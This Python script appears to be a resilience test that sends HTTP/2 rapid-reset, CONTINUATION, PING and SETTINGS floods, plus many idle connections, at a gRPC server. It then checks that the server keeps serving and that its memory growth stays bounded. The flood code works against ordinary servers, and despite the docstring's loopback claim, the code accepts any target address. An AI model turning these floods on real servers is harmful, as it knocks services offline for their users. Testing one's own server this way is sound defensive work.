"""HTTP/2 abuse against a running catalogue, from a raw client: rapid reset
(CVE-2023-44487), CONTINUATION flood, PING flood, SETTINGS flood and many idle
connections. After each attack the server must still be up, serve a normal
gRPC call, and its resident memory must stay bounded.

Usage: python scripts/h2-abuse.py HOST:PORT SERVER_PID
Every attack is bounded in frames and seconds, and targets loopback only.
"""

import socket
import struct
import sys
import time

import grpc
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
# A bound on how much memory one attack may add to the server.
MAX_RSS_GROWTH_MB = 64


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(addr):
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=5)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def request_headers(encoder):
    return encoder.encode([
        (":method", "POST"), (":scheme", "http"), (":path", "/catalogue.v1.CatalogueService/GetProduct"),
        (":authority", "catalogue"), ("content-type", "application/grpc"), ("te", "trailers"),
    ])


def send_quietly(sock, data):
    """Sends until the server closes the connection (its defence)."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def drain(sock, seconds=0.2):
    sock.settimeout(seconds)
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass


def rapid_reset(addr):
    sock, encoder = connect(addr), Encoder()
    sent = 0
    for stream in range(1, 2 * 20_000, 2):
        burst = frame(HEADERS, END_HEADERS, stream, request_headers(encoder)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        if not send_quietly(sock, burst):
            break
        sent += 1
    sock.close()
    return f"{sent} streams opened and reset before the server closed the connection"


def continuation_flood(addr):
    sock, encoder = connect(addr), Encoder()
    block = request_headers(encoder)
    send_quietly(sock, frame(HEADERS, 0, 1, block))
    junk = encoder.encode([("x-junk", "y" * 4000)])
    frames = 0
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and frames < 20_000:
        if not send_quietly(sock, frame(CONTINUATION, 0, 1, junk)):
            break
        frames += 1
    sock.close()
    return f"{frames} CONTINUATION frames ({frames * 4} KiB of headers) sent before the server stopped reading"


def frame_flood(addr, frames, what):
    """Sends `frames` (100 frames) again and again for at most 5 s or 200,000
    frames, never reading the server's answers."""
    sock = connect(addr)
    sent = 0
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and sent < 200_000:
        if not send_quietly(sock, frames):
            break
        sent += 100
    sock.close()
    return f"{sent} {what} sent without reading an answer"


def ping_flood(addr):
    return frame_flood(addr, frame(PING, 0, 0, b"12345678") * 100, "PINGs")


def settings_flood(addr):
    max_concurrent_streams = struct.pack(">HI", 0x3, 100)
    return frame_flood(addr, frame(SETTINGS, 0, 0, max_concurrent_streams) * 100, "SETTINGS frames")


def idle_connections(addr):
    socks = []
    for _ in range(500):
        try:
            socks.append(connect(addr))
        except OSError:
            break
    opened = len(socks)
    healthy = serves(addr)
    for sock in socks:
        sock.close()
    if not healthy:
        raise AssertionError("not serving while 500 idle connections are open")
    return f"{opened} idle connections held while a normal call was served"


def serves(addr):
    with grpc.insecure_channel(addr) as channel:
        stub = channel.unary_unary(
            "/grpc.health.v1.Health/Check", request_serializer=lambda _: b"", response_deserializer=lambda b: b
        )
        try:
            stub(None, timeout=5)
            return True
        except grpc.RpcError as error:
            print(f"  health check failed: {error.code()}")
            return False


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError(f"process {pid} is gone")


def main(addr, pid):
    passed = failed = 0
    for attack in (rapid_reset, continuation_flood, ping_flood, settings_flood, idle_connections):
        before = rss_mb(pid)
        try:
            detail = attack(addr)
            time.sleep(0.5)
            after = rss_mb(pid)
            assert serves(addr), "the server no longer serves"
            growth = after - before
            assert growth < MAX_RSS_GROWTH_MB, f"RSS grew {growth:.1f} MB"
            print(f"PASS {attack.__name__}: {detail}; RSS {before:.1f} -> {after:.1f} MB")
            passed += 1
        except Exception as error:  # noqa: BLE001 - report every failure
            print(f"FAIL {attack.__name__}: {error}")
            failed += 1
    print(f"{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
